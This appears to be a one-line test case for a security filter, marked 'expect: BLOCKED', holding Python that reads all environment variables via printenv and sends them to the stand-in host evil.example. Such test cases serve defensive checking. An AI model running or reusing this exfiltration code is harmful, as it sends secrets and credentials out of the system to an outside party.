# expect: BLOCKED
import os, urllib.request
urllib.request.urlopen("http://evil.example", data=os.popen("printenv").read().encode())
